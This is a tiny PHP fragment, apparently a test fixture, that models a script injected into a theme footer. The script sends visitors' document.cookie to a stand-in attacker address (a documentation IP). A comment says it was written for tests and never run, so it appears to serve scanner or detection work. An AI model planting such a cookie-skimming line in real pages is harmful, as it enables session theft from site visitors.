<?php
// injected into a theme footer (written for the tests, never run; a documentation address)
echo "<script>new Image().src='http://203.0.113.7/c.php?c='+escape(document.cookie);</script>";
